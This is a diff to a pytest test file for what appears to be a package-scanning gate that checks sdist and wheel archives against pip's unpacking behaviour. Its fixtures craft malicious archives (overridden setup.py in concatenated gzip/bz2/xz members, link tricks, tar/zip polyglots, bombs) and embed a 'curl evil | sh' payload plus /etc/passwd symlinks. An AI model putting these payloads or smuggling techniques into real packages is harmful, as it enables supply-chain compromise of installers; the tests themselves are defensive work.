@@ -18,6 +18,7 @@ import struct
 import tarfile
 import tracemalloc
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -26,7 +27,7 @@ import pytest
 from mphunter_gate import select as selection
 from mphunter_gate.errors import ArchiveError
 from mphunter_gate.fetch import archive
-from mphunter_gate.fetch.archive import DirTree, TarTree, ZipTree, decode, open_tree
+from mphunter_gate.fetch.archive import DirTree, MemoryTree, TarTree, ZipTree, decode, open_tree
 from mphunter_gate.fetch.metadata import metadata_from_sdist
 
 SETUP = b"from setuptools import setup\nsetup(name='demo')\n"
@@ -68,6 +69,39 @@ def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes
     return buf.getvalue()
 
 
+def _entry(
+    name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname: str = ""
+) -> bytes:
+    """One raw tar entry (header and padded data) with no end-of-archive marker, so
+    entries can be split across compressed members the way an attacker would."""
+    ti = tarfile.TarInfo(name)
+    ti.type = kind
+    ti.linkname = linkname
+    ti.size = len(data) if kind == tarfile.REGTYPE else 0
+    header = ti.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")
+    return header + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
+
+
+#: The end-of-archive marker (two zero blocks), padded to a record as tarfile writes it.
+END = b"\0" * tarfile.RECORDSIZE
+
+
+def _sym(name: str, target: str) -> bytes:
+    return _entry(name, kind=tarfile.SYMTYPE, linkname=target)
+
+
+def _hard(name: str, target: str) -> bytes:
+    return _entry(name, kind=tarfile.LNKTYPE, linkname=target)
+
+
+def _dir(name: str) -> bytes:
+    return _entry(name, kind=tarfile.DIRTYPE)
+
+
+def _contents(tree: archive.Tree) -> dict[str, bytes]:
+    return {n: tree.read(n) for n in tree.names()}
+
+
 # -- formats ----------------------------------------------------------------------
 
 
@@ -100,18 +134,218 @@ def test_read_of_unknown_member_is_keyerror() -> None:
         tree.read("a/other.py")
 
 
-def test_member_read_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
+# -- one file over MAX_MEMBER: refused, never cut ---------------------------------------
+
+
+def test_member_cap_is_64_mib() -> None:
+    assert archive.MAX_MEMBER == 64 * 1024 * 1024
+
+
+@pytest.mark.parametrize(
+    ("data", "fname"),
+    [
+        (_tar([("a/big.py", b"x" * 100), ("a/ok.py", b"y" * 10)], "gz"), "a.tar.gz"),  # kept
+        (_tar([("a/big.bin", b"x" * 100), ("a/ok.bin", b"y" * 10)], ""), "a.tar"),  # 2nd pass
+        (_zip({"a/big.py": b"x" * 100, "a/ok.py": b"y" * 10}), "a.zip"),
+    ],
+)
+def test_member_over_the_cap_is_archive_error_not_a_prefix(
+    monkeypatch: pytest.MonkeyPatch, data: bytes, fname: str
+) -> None:
+    """Before, read() returned the first MAX_MEMBER bytes: a payload past the cut went unseen."""
     monkeypatch.setattr(archive, "MAX_MEMBER", 10)
-    for data, fname in (
-        (_tar([("a/big.py", b"x" * 100)], "gz"), "a.tar.gz"),
-        (_zip({"a/big.py": b"x" * 100}), "a.zip"),
-    ):
-        assert open_tree(data, fname).read("a/big.py") == b"x" * 10
+    tree = open_tree(data, fname)
+    big, ok = sorted(tree.names())
+    with pytest.raises(ArchiveError, match=r"over the .* cap"):
+        tree.read(big)
+    assert tree.read(ok) == b"y" * 10  # exactly at the cap: read whole
+
+
+def test_member_over_the_cap_in_memory_and_folder_trees(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setattr(archive, "MAX_MEMBER", 10)
+    (tmp_path / "big.py").write_bytes(b"x" * 11)
+    (tmp_path / "ok.py").write_bytes(b"y" * 10)
+    for tree in (DirTree(tmp_path), MemoryTree({"big.py": b"x" * 11, "ok.py": b"y" * 10})):
+        with pytest.raises(ArchiveError, match=r"over the .* cap"):
+            tree.read("big.py")
+        assert tree.read("ok.py") == b"y" * 10
 
 
 def test_later_member_of_same_name_wins() -> None:
     data = _tar([("a/setup.py", b"first\n"), ("a/setup.py", b"second\n")], "gz")
-    assert open_tree(data, "a.tar.gz").read("a/setup.py") == b"second\n"
+    tree = open_tree(data, "a.tar.gz")
+    assert tree.read("a/setup.py") == b"second\n"
+    assert tree.duplicates() == ["a/setup.py"]
+
+
+def test_no_duplicates_in_a_plain_archive() -> None:
+    assert open_tree(_tar([("a/setup.py", SETUP)], "gz"), "a.tar.gz").duplicates() == []
+    assert open_tree(_zip({"a/": b"", "a/setup.py": SETUP}), "a.zip").duplicates() == []
+
+
+def test_folder_entry_of_a_files_name_leaves_the_file() -> None:
+    """mkdir over an existing file fails quietly in tarfile: the file is what stays on disk."""
+    data = gzip.compress(_entry("a/setup.py", SETUP) + _dir("a/setup.py") + END, mtime=0)
+    tree = open_tree(data, "a.tar.gz")
+    assert tree.names() == ["a/setup.py"]
+    assert tree.read("a/setup.py") == SETUP
+    assert tree.duplicates() == ["a/setup.py"]
+
+
+def test_file_over_a_folder_is_archive_error() -> None:
+    """pip fails with IsADirectoryError there: nothing is installed."""
+    data = gzip.compress(_dir("a/setup.py") + _entry("a/setup.py", SETUP) + END, mtime=0)
+    with pytest.raises(ArchiveError, match="over a folder"):
+        open_tree(data, "a.tar.gz")
+
+
+def test_file_under_a_file_is_archive_error() -> None:
+    data = gzip.compress(_entry("a/mod", b"x") + _entry("a/mod/x.py", b"y") + END, mtime=0)
+    with pytest.raises(ArchiveError, match="a file"):
+        open_tree(data, "a.tar.gz")
+
+
+# -- concatenated compressed members, read as GzipFile / BZ2File / LZMAFile do -------------
+
+
+_FIRST = _entry("demo-1.0/PKG-INFO", b"Metadata-Version: 1.0\n") + _entry(
+    "demo-1.0/setup.py", SETUP
+)
+_OVERRIDE = b"import os\nos.system('curl evil | sh')\n"
+_SECOND = _entry("demo-1.0/setup.py", _OVERRIDE) + END
+_COMPRESS: dict[str, Callable[[bytes], bytes]] = {
+    "gz": lambda d: gzip.compress(d, mtime=0),
+    "bz2": bz2.compress,
+    "xz": lzma.compress,
+}
+
+
+@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
+def test_second_compressed_member_overriding_setup_py_is_read(compress: str) -> None:
+    """The tar goes on in the next member (no end marker in the first): pip reads it all."""
+    pack = _COMPRESS[compress]
+    data = pack(_FIRST) + pack(_SECOND)
+    tree = open_tree(data, f"demo-1.0.tar.{compress}")
+    assert tree.read("demo-1.0/setup.py") == _OVERRIDE
+    assert tree.duplicates() == ["demo-1.0/setup.py"]
+    assert sorted(tree.names()) == ["demo-1.0/PKG-INFO", "demo-1.0/setup.py"]
+
+
+@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
+def test_many_members_and_a_member_holding_no_data(compress: str) -> None:
+    pack = _COMPRESS[compress]
+    entries = [_entry(f"demo-1.0/m{i}.py", b"x = %d\n" % i) for i in range(5)]
+    data = b"".join(pack(e) for e in entries) + pack(b"") + pack(END)
+    tree = open_tree(data, f"demo-1.0.tar.{compress}")
+    assert sorted(tree.names()) == [f"demo-1.0/m{i}.py" for i in range(5)]
+
+
+def test_zero_padding_after_and_between_gzip_members_is_skipped() -> None:
+    pack = _COMPRESS["gz"]
+    data = pack(_FIRST) + b"\0" * 20_000 + pack(_SECOND) + b"\0" * 3
+    assert open_tree(data, "demo-1.0.tar.gz").read("demo-1.0/setup.py") == _OVERRIDE
+
+
+@pytest.mark.parametrize("garbage", [b"garbage", b"\0\0junk", b"\x1f", b"PK\x05\x06" + b"\0" * 18])
+def test_bytes_after_a_gzip_member_that_are_no_member_are_archive_error(garbage: bytes) -> None:
+    """GzipFile raises BadGzipFile on them; the gate refuses the archive rather than guess."""
+    data = _COMPRESS["gz"](_FIRST + END) + garbage
+    with pytest.raises(ArchiveError, match="not another member"):
+        open_tree(data, "demo-1.0.tar.gz")
+
+
+def test_truncated_second_gzip_member_is_archive_error() -> None:
+    pack = _COMPRESS["gz"]
+    second = pack(_SECOND)
+    with pytest.raises(ArchiveError):
+        open_tree(pack(_FIRST) + second[: len(second) // 2], "demo-1.0.tar.gz")
+
+
+def test_corrupt_second_gzip_member_is_archive_error() -> None:
+    pack = _COMPRESS["gz"]
+    second = bytearray(pack(_SECOND))
+    second[12:20] = b"\xff" * 8
+    with pytest.raises(ArchiveError):
+        open_tree(pack(_FIRST) + bytes(second), "demo-1.0.tar.gz")
+
+
+@pytest.mark.parametrize("compress", ["bz2", "xz"])
+@pytest.mark.parametrize("garbage", [b"garbage", b"PK\x03\x04 not a stream", b"\xff" * 9000])
+def test_trailing_bytes_after_a_bz2_or_xz_stream_are_ignored(compress: str, garbage: bytes) -> None:
+    """BZ2File and LZMAFile stop at bytes that do not start a stream; so does the gate."""
+    pack = _COMPRESS[compress]
+    tree = open_tree(pack(_FIRST) + pack(_SECOND) + garbage, f"demo-1.0.tar.{compress}")
+    assert tree.read("demo-1.0/setup.py") == _OVERRIDE
+
+
+def _stdlib_inflate(compress: str, data: bytes) -> bytes:
+    """What pip's reader of that kind (GzipFile, BZ2File, LZMAFile) yields, read to the end."""
+    f = io.BytesIO(data)
+    if compress == "gz":
+        with gzip.GzipFile(fileobj=f) as gz:
+            return gz.read()
+    if compress == "bz2":
+        with bz2.BZ2File(f) as bz:
+            return bz.read()
+    with lzma.LZMAFile(f) as xz:
+        return xz.read()
+
+
+_TAILS = {
+    "nothing": b"",
+    "one-zero": b"\0",
+    "four-zeros": b"\0" * 4,
+    "a-block-of-zeros": b"\0" * 9000,
+    "garbage": b"garbage",
+    "bz2-magic": b"BZh9",
+    "gzip-magic": b"\x1f\x8b",
+    "xz-magic": b"\xfd7zXZ\x00",
+}
+
+
+@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
+@pytest.mark.parametrize("tail", _TAILS.values(), ids=_TAILS.keys())
+@pytest.mark.parametrize("streams", [1, 2])
+def test_inflating_ends_or_fails_exactly_where_the_stdlib_reader_does(
+    compress: str, tail: bytes, streams: int
+) -> None:
+    """The stream pip reads through (GzipFile/BZ2File/LZMAFile) against the gate's, to the end."""
+    pack = _COMPRESS[compress]
+    payload = random.Random(compress).randbytes(30_000)
+    data = b"".join(pack(payload[i::streams]) for i in range(streams)) + tail
+    try:
+        expected: bytes | None = _stdlib_inflate(compress, data)
+    except (OSError, EOFError, lzma.LZMAError, zlib.error):
+        expected = None
+    ours = archive._Inflating(data, "x", compress)
+    try:
+        got: bytes | None = ours.readall()
+    except ArchiveError:
+        got = None
+    assert got == expected
+
+
+@pytest.mark.parametrize("compress", ["bz2", "xz"])
+def test_truncated_second_bz2_or_xz_stream_is_archive_error(compress: str) -> None:
+    """A second stream that starts validly but is cut is a corrupt stream, not trailing bytes."""
+    pack = _COMPRESS[compress]
+    second = pack(_SECOND)
+    with pytest.raises(ArchiveError):
+        open_tree(pack(_FIRST) + second[: len(second) - 20], f"demo-1.0.tar.{compress}")
+
+
+@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
+def test_bomb_caps_count_every_member(monkeypatch: pytest.MonkeyPatch, compress: str) -> None:
+    """Each member alone is under MAX_UNPACKED; together they are over it."""
+    monkeypatch.setattr(archive, "MAX_UNPACKED", 1 << 20)
+    pack = _COMPRESS[compress]
+    part = _entry("a-1.0/zeros.bin", b"\0" * (400 << 10))
+    assert len(pack(part)) < 16 << 10
+    open_tree(pack(part) + pack(END), f"a-1.0.tar.{compress}")  # one member: under the cap
+    with pytest.raises(ArchiveError, match="bomb"):
+        open_tree(b"".join(pack(part) for _ in range(3)) + pack(END), f"a-1.0.tar.{compress}")
 
 
 # -- decompression bombs -------------------------------------------------------------
@@ -193,7 +427,7 @@ def test_big_data_member_is_streamed_past_not_held(compress: str) -> None:
 
 @pytest.mark.parametrize("compress", ["", "gz", "bz2"])
 def test_member_not_kept_is_read_by_a_second_pass(compress: str) -> None:
-    blob = random.Random(8).randbytes(archive.MAX_MEMBER + 4096)
+    blob = random.Random(8).randbytes(6 << 20)  # over the old 5 MiB cut: read whole now
     data = _tar(
         [
             ("a-1.0/blob.bin", b"an earlier entry of the same name\n"),
@@ -204,7 +438,7 @@ def test_member_not_kept_is_read_by_a_second_pass(compress: str) -> None:
         compress,
     )
     tree = open_tree(data, f"a-1.0.tar.{compress or 'x'}")
-    assert tree.read("a-1.0/blob.bin") == blob[: archive.MAX_MEMBER]  # the later entry, capped
+    assert tree.read("a-1.0/blob.bin") == blob  # the later entry, whole
     assert tree.read("a-1.0/README.rst") == b"Demo\n"
     assert tree.read("a-1.0/setup.py") == SETUP
 
@@ -326,10 +560,19 @@ def test_dotted_but_inside_names_are_normalised() -> None:
     assert open_tree(data, "demo-1.0.tar.gz").names() == ["demo-1.0/setup.py"]
 
 
-def test_tar_symlink_named_setup_py_is_not_followed() -> None:
+HIDDEN = b"import os\nos.system('x')\n"
+
+
+def test_tar_links_inside_the_package_are_read_as_pip_extracts_them() -> None:
+    """pip (PEP 706 data filter) makes links that stay inside: the gate reads through them.
+
+    Before, every link was left unread, so a setup.py that is a link to a
+    payload made the package unscannable at best, and a module reached
+    through a link was never read.
+    """
     data = _tar(
         [
-            ("demo-1.0/hidden.py", b"import os\nos.system('x')\n"),
+            ("demo-1.0/hidden.py", HIDDEN),
             _special("demo-1.0/setup.py", tarfile.SYMTYPE, "hidden.py"),
             _special("demo-1.0/passwd.py", tarfile.SYMTYPE, "/etc/passwd"),
             _special("demo-1.0/hard.py", tarfile.LNKTYPE, "demo-1.0/hidden.py"),
@@ -337,24 +580,253 @@ def test_tar_symlink_named_setup_py_is_not_followed() -> None:
         "gz",
     )
     tree = open_tree(data, "demo-1.0.tar.gz")
-    assert tree.names() == ["demo-1.0/hidden.py"]
-    assert sorted(tree.links()) == ["demo-1.0/hard.py", "demo-1.0/passwd.py", "demo-1.0/setup.py"]
-    for link in tree.links():
-        with pytest.raises(KeyError):
-            tree.read(link)
+    assert sorted(tree.names()) == ["demo-1.0/hard.py", "demo-1.0/hidden.py", "demo-1.0/setup.py"]
+    assert tree.read("demo-1.0/setup.py") == HIDDEN
+    assert tree.read("demo-1.0/hard.py") == HIDDEN
+    assert tree.links() == ["demo-1.0/passwd.py"]  # absolute: pip's filter refuses it
+    with pytest.raises(KeyError):
+        tree.read("demo-1.0/passwd.py")
 
 
-def test_zip_symlink_is_listed_as_link_not_file() -> None:
+def test_symlink_reads_what_its_target_holds_at_the_end_of_the_archive() -> None:
+    data = gzip.compress(
+        _entry("demo-1.0/pkg/real.py", b"first\n")
+        + _sym("demo-1.0/setup.py", "pkg/real.py")
+        + _entry("demo-1.0/pkg/real.py", b"last\n")
+        + END,
+        mtime=0,
+    )
+    tree = open_tree(data, "demo-1.0.tar.gz")
+    assert tree.read("demo-1.0/setup.py") == b"last\n"
+    assert tree.read("demo-1.0/pkg/real.py") == b"last\n"
+
+
+def test_symlink_chains_are_followed_up_to_the_os_limit() -> None:
+    """Linux follows 40 links in one path (MAXSYMLINKS); the 41st makes it ELOOP."""
+
+    def chain(n: int) -> archive.Tree:
+        links = b"".join(_sym(f"d/l{i}.py", f"l{i + 1}.py") for i in range(n))
+        body = _entry("d/setup.py", SETUP) + _entry(f"d/l{n}.py", HIDDEN) + links
+        return open_tree(gzip.compress(body + END, mtime=0), "d.tar.gz")
+
+    ok = chain(archive._MAX_HOPS)
+    assert ok.read("d/l0.py") == HIDDEN
+    too_long = chain(archive._MAX_HOPS + 1)
+    assert "d/l0.py" in too_long.links() and "d/l0.py" not in too_long.names()
+    assert too_long.read("d/l1.py") == HIDDEN  # 40 hops from there
+
+
+@pytest.mark.parametrize(
+    ("link", "why"),
+    [
+        (_sym("demo-1.0/setup.py", "../outside.py"), "leaves the package folder"),
+        (_sym("demo-1.0/setup.py", "../../etc/passwd"), "leaves the archive"),
+        (_sym("demo-1.0/setup.py", "/etc/passwd"), "absolute"),
+        (_sym("demo-1.0/setup.py", "missing.py"), "missing member"),
+        (_sym("demo-1.0/setup.py", "pkg"), "a folder"),
+        (_sym("demo-1.0/setup.py", "setup.py"), "itself"),
+        (_sym("demo-1.0/setup.py", "loop.py") + _sym("demo-1.0/loop.py", "setup.py"), "loop"),
+        (_hard("demo-1.0/setup.py", "demo-1.0/missing.py"), "missing hard-link target"),
+        (_hard("demo-1.0/setup.py", "demo-1.0/pkg"), "hard link to a folder"),
+        (_hard("demo-1.0/setup.py", "../outside.py"), "hard link out of the package"),
+    ],
+)
+def test_links_that_reach_no_file_inside_stay_unreadable(link: bytes, why: str) -> None:
+    data = gzip.compress(_entry("demo-1.0/pkg/__init__.py", b"A = 1\n") + link + END, mtime=0)
+    tree = open_tree(data, "demo-1.0.tar.gz")
+    assert "demo-1.0/setup.py" in tree.links(), why
+    assert "demo-1.0/setup.py" not in tree.names(), why
+    assert tree.read("demo-1.0/pkg/__init__.py") == b"A = 1\n"
+    with pytest.raises(ArchiveError, match="link"):
+        selection.select(tree)  # the caller still refuses such a setup.py
+
+
+def test_symlink_up_and_back_into_the_package_folder_leaves_it() -> None:
+    """pip extracts into a folder of its own (the leading folder stripped): `..` from the
+    top leaves it even when the path comes back to a name of the archive."""
+    data = gzip.compress(
+        _entry("demo-1.0/real.py", HIDDEN) + _sym("demo-1.0/setup.py", "../demo-1.0/real.py") + END,
+        mtime=0,
+    )
+    assert open_tree(data, "demo-1.0.tar.gz").links() == ["demo-1.0/setup.py"]
+    flat = gzip.compress(_entry("real.py", HIDDEN) + _sym("sub/setup.py", "../real.py") + END)
+    assert open_tree(flat, "flat.tar.gz").read("sub/setup.py") == HIDDEN  # no leading folder
+
+
+@pytest.mark.parametrize("target", ["demo-1.0/hidden.py", "hidden.py"])
+def test_hard_link_target_is_relative_to_the_folder_pip_unpacks(target: str) -> None:
+    """pip strips the leading folder from a hard link's target when it has one; a target
+    without it is then already relative to the package folder."""
+    data = gzip.compress(
+        _entry("demo-1.0/hidden.py", HIDDEN) + _hard("demo-1.0/setup.py", target) + END
+    )
+    assert open_tree(data, "demo-1.0.tar.gz").read("demo-1.0/setup.py") == HIDDEN
+
+
+def test_hard_link_sees_its_target_rewritten_later() -> None:
+    """A later file of the target's name is written into the same inode."""
+    data = gzip.compress(
+        _entry("demo-1.0/a.py", b"first\n")
+        + _hard("demo-1.0/setup.py", "demo-1.0/a.py")
+        + _entry("demo-1.0/a.py", b"last\n")
+        + END
+    )
+    assert _contents(open_tree(data, "demo-1.0.tar.gz")) == {
+        "demo-1.0/a.py": b"last\n",
+        "demo-1.0/setup.py": b"last\n",
+    }
+
+
+def test_file_written_over_a_symlink_rewrites_the_link_target() -> None:
+    """open(name, "wb") follows the link: the later file's bytes land in the target too.
+
+    Reading the later entry as setup.py only would leave hidden.py's real
+    content (the payload a setup.py could import) unread.
+    """
+    data = gzip.compress(
+        _entry("demo-1.0/hidden.py", b"benign\n")
+        + _sym("demo-1.0/setup.py", "hidden.py")
+        + _entry("demo-1.0/setup.py", HIDDEN)
+        + END
+    )
+    tree = open_tree(data, "demo-1.0.tar.gz")
+    assert _contents(tree) == {"demo-1.0/hidden.py": HIDDEN, "demo-1.0/setup.py": HIDDEN}
+    assert tree.duplicates() == ["demo-1.0/setup.py"]
+
+
+def test_hard_link_through_a_missing_folder_copies_the_archived_target() -> None:
+    """`a/../b` cannot be walked while `a` does not exist: os.path.exists says no, and
+    tarfile copies the last earlier member named `b` (its bytes then, not later ones)."""
+    data = gzip.compress(
+        _entry("b.py", b"then\n")
+        + _hard("c.py", "a/../b.py")
+        + _dir("a")
+        + _entry("b.py", b"later\n")
+    )
+    assert _contents(open_tree(data, "x.tar.gz")) == {"b.py": b"later\n", "c.py": b"then\n"}
+    linked = gzip.compress(
+        _dir("a")
+        + _entry("b.py", b"then\n")
+        + _hard("c.py", "a/../b.py")
+        + _entry("b.py", b"later\n")
+    )
+    assert _contents(open_tree(linked, "x.tar.gz")) == {"b.py": b"later\n", "c.py": b"later\n"}
+
+
+def test_link_tarfile_cannot_make_is_dropped_not_refused() -> None:
+    """A link under a file (ENOTDIR) is skipped by tarfile, which goes on."""
+    data = gzip.compress(_entry("d/b", b"B") + _sym("d/b/x.py", "../c.py") + _entry("d/c.py", b"C"))
+    tree = open_tree(data, "d.tar.gz")
+    assert _contents(tree) == {"d/b": b"B", "d/c.py": b"C"}
+    assert tree.links() == []
+
+
+def test_file_written_through_a_symlinked_folder_lands_in_the_target_folder() -> None:
+    data = gzip.compress(
+        _dir("demo-1.0/real")
+        + _sym("demo-1.0/alias", "real")
+        + _entry("demo-1.0/alias/__init__.py", HIDDEN)
+        + END
+    )
+    tree = open_tree(data, "demo-1.0.tar.gz")
+    assert tree.names() == ["demo-1.0/real/__init__.py"]
+    assert tree.read("demo-1.0/real/__init__.py") == HIDDEN
+    assert tree.links() == ["demo-1.0/alias"]  # a link to a folder: not a file
+
+
+@pytest.mark.parametrize(
+    ("body", "match"),
+    [
+        (_sym("demo-1.0/out", "../..") + _entry("demo-1.0/out/x.py", b"x"), "leaves"),
+        (_sym("demo-1.0/setup.py", "../x.py") + _entry("demo-1.0/setup.py", b"x"), "leaves"),
+        (
+            _entry("demo-1.0/a.py", b"A")
+            + _entry("demo-1.0/b.py", b"B")
+            + _hard("demo-1.0/b.py", "demo-1.0/a.py"),
+            "existing",
+        ),
+        (
+            _entry("demo-1.0/a.py", b"A")
+            + _sym("demo-1.0/s.py", "a.py")
+            + _hard("demo-1.0/h.py", "demo-1.0/s.py"),
+            "symbolic link",
+        ),
+    ],
+)
+def test_writes_pip_cannot_make_or_unpacks_differently_are_archive_error(
+    body: bytes, match: str
+) -> None:
+    with pytest.raises(ArchiveError, match=match):
+        open_tree(gzip.compress(body + END), "demo-1.0.tar.gz")
+
+
+def test_a_maze_of_links_fails_fast(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(archive, "_MAX_STEPS", 500)
+    links = b"".join(_sym(f"d/l{i}", "/".join(["."] * 30) + f"/l{i + 1}") for i in range(30))
+    with pytest.raises(ArchiveError, match="too many"):
+        open_tree(gzip.compress(links + END), "d.tar.gz")
+
+
+@pytest.mark.parametrize("mode", [stat.S_IFLNK | 0o777, stat.S_IFIFO | 0o644, stat.S_IFCHR | 0o644])
+def test_zip_entry_is_a_regular_file_whatever_its_mode_bits(mode: int) -> None:
+    """pip's unzip and its wheel installer write the entry's bytes to a plain file.
+
+    Before, symlink mode bits made the entry a link that was never read, and
+    device/fifo bits hid it entirely: a .py pip installs went unscanned.
+    """
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as zf:
         info = zipfile.ZipInfo("demo/setup.py")
         info.create_system = 3
-        info.external_attr = (stat.S_IFLNK | 0o777) << 16
-        zf.writestr(info, "/etc/passwd")
+        info.external_attr = mode << 16
+        zf.writestr(info, HIDDEN)
         zf.writestr("demo/__init__.py", "A = 1\n")
     tree = open_tree(buf.getvalue(), "demo.zip")
-    assert tree.names() == ["demo/__init__.py"]
-    assert tree.links() == ["demo/setup.py"]
+    assert sorted(tree.names()) == ["demo/__init__.py", "demo/setup.py"]
+    assert tree.read("demo/setup.py") == HIDDEN
+    assert tree.links() == []
+
+
+def test_zip_repeated_name_last_entry_wins() -> None:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf, pytest.warns(UserWarning, match="Duplicate name"):
+        zf.writestr("demo/setup.py", SETUP)
+        zf.writestr("demo/setup.py", HIDDEN)
+        zf.writestr("demo/setup.py/", b"")  # a folder entry of that name adds nothing
+    tree = open_tree(buf.getvalue(), "demo.zip")
+    assert _contents(tree) == {"demo/setup.py": HIDDEN}
+    assert tree.duplicates() == ["demo/setup.py"]
+
+
+def test_zip_name_ending_in_a_backslash_is_a_folder() -> None:
+    """pip's unzip makes a folder of any name ending in / or \\, whatever it holds."""
+    tree = open_tree(_zip({"demo\\": b"not a file", "demo/x.py": b"x"}), "demo.zip")
+    assert tree.names() == ["demo/x.py"]
+
+
+def test_zip_entry_named_as_the_leading_folder_is_a_folder() -> None:
+    """pip strips the leading folder; an entry left with an empty name becomes a folder."""
+    sdist = open_tree(_zip({"demo": b"never written", "demo/x.py": b"x"}), "demo.zip")
+    assert sdist.names() == ["demo/x.py"]
+    wheel = open_tree(_zip({"demo": b"written", "demo/x.py": b"x"}), "demo-1.0-py3-none-any.whl")
+    assert sorted(wheel.names()) == ["demo", "demo/x.py"]  # a wheel's names are not stripped
+
+
+def test_tar_that_is_also_a_zip_is_read_as_pip_reads_a_tar() -> None:
+    """pip unpacks a `.tar` as a tar whatever its first bytes; a zip appended behind it
+    (zipfile finds one from the end) must not be what the gate reads instead."""
+    tar = _tar([("PK\x03\x04demo/setup.py", HIDDEN)])
+    polyglot = tar + _zip({"PK\x03\x04demo/setup.py": SETUP})
+    assert polyglot[:4] == b"PK\x03\x04"
+    tree = open_tree(polyglot, "demo-1.0.tar")
+    assert isinstance(tree, TarTree)
+    assert _contents(tree) == {"PK\x03\x04demo/setup.py": HIDDEN}
+    zipped = open_tree(_zip({"demo/setup.py": SETUP}), "demo-1.0.tar")  # no tar in it
+    assert isinstance(zipped, ZipTree)
+
+
+def test_upper_case_zip_name_is_read_as_a_zip() -> None:
+    assert isinstance(open_tree(_zip({"demo/setup.py": SETUP}), "DEMO-1.0.ZIP"), ZipTree)
 
 
 @pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
@@ -363,6 +835,12 @@ def test_device_members_are_refused(kind: bytes) -> None:
     dev.devmajor, dev.devminor = 1, 3
     with pytest.raises(ArchiveError, match="device or fifo"):
         open_tree(_tar([("demo-1.0/PKG-INFO", b"x"), dev], "gz"), "demo-1.0.tar.gz")
+
+
+def test_member_of_unknown_type_is_refused() -> None:
+    """pip's data filter refuses what is not a file, folder or link, so the install fails."""
+    with pytest.raises(ArchiveError, match="unknown type"):
+        open_tree(gzip.compress(_entry("demo-1.0/setup.py", kind=b"Z") + END), "demo-1.0.tar.gz")
 
 
 # -- corrupt and truncated --------------------------------------------------------------------
